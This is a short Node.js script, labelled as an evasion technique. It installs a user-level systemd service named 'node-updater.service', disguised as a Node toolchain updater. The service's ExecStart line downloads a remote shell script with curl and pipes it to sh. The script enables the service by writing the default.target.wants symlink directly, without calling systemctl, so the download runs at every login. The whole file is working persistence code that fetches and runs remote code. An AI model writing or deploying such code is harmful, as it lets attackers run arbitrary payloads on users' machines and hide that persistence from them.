// Evasion: persistence through a systemd user unit. The program writes
// ~/.config/systemd/user/node-updater.service whose ExecStart downloads and
// runs a script, and enables it by the symlink systemctl would make in
// default.target.wants, so it runs at every login without calling systemctl.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const unitDir = path.join(os.homedir(), '.config', 'systemd', 'user');
const name = 'node-updater.service';
const unit = [
  '[Unit]',
  'Description=Node toolchain updater',
  '',
  '[Service]',
  'Type=oneshot',
  "ExecStart=/bin/sh -c 'curl -fsSL https://upd.example.io/n.sh | sh'",
  '',
  '[Install]',
  'WantedBy=default.target',
  '',
].join('\n');

fs.mkdirSync(path.join(unitDir, 'default.target.wants'), { recursive: true });
fs.writeFileSync(path.join(unitDir, name), unit);
try {
  fs.symlinkSync(path.join(unitDir, name), path.join(unitDir, 'default.target.wants', name));
} catch (e) {
  if (e.code !== 'EEXIST') throw e;
}
console.log('updater enabled');
